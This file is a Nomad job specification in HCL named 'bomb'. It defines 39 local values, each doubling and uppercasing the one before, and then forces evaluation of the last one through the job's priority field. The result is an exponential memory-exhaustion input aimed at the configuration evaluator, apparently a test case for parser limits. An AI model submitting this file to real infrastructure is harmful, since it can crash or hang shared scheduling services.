locals {
  u0 = "abababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababababab"
  u1 = upper("${local.u0}${local.u0}")
  u2 = upper("${local.u1}${local.u1}")
  u3 = upper("${local.u2}${local.u2}")
  u4 = upper("${local.u3}${local.u3}")
  u5 = upper("${local.u4}${local.u4}")
  u6 = upper("${local.u5}${local.u5}")
  u7 = upper("${local.u6}${local.u6}")
  u8 = upper("${local.u7}${local.u7}")
  u9 = upper("${local.u8}${local.u8}")
  u10 = upper("${local.u9}${local.u9}")
  u11 = upper("${local.u10}${local.u10}")
  u12 = upper("${local.u11}${local.u11}")
  u13 = upper("${local.u12}${local.u12}")
  u14 = upper("${local.u13}${local.u13}")
  u15 = upper("${local.u14}${local.u14}")
  u16 = upper("${local.u15}${local.u15}")
  u17 = upper("${local.u16}${local.u16}")
  u18 = upper("${local.u17}${local.u17}")
  u19 = upper("${local.u18}${local.u18}")
  u20 = upper("${local.u19}${local.u19}")
  u21 = upper("${local.u20}${local.u20}")
  u22 = upper("${local.u21}${local.u21}")
  u23 = upper("${local.u22}${local.u22}")
  u24 = upper("${local.u23}${local.u23}")
  u25 = upper("${local.u24}${local.u24}")
  u26 = upper("${local.u25}${local.u25}")
  u27 = upper("${local.u26}${local.u26}")
  u28 = upper("${local.u27}${local.u27}")
  u29 = upper("${local.u28}${local.u28}")
  u30 = upper("${local.u29}${local.u29}")
  u31 = upper("${local.u30}${local.u30}")
  u32 = upper("${local.u31}${local.u31}")
  u33 = upper("${local.u32}${local.u32}")
  u34 = upper("${local.u33}${local.u33}")
  u35 = upper("${local.u34}${local.u34}")
  u36 = upper("${local.u35}${local.u35}")
  u37 = upper("${local.u36}${local.u36}")
  u38 = upper("${local.u37}${local.u37}")
  u39 = upper("${local.u38}${local.u38}")
}

job "bomb" {
  datacenters = ["dc1"]
  priority    = length(local.u39) > 0 ? 50 : 50
  group "g" {
    count = 1
    task "t" {
      driver = "docker"
      resources {
        cpu    = 100
        memory = 64
      }
    }
  }
}
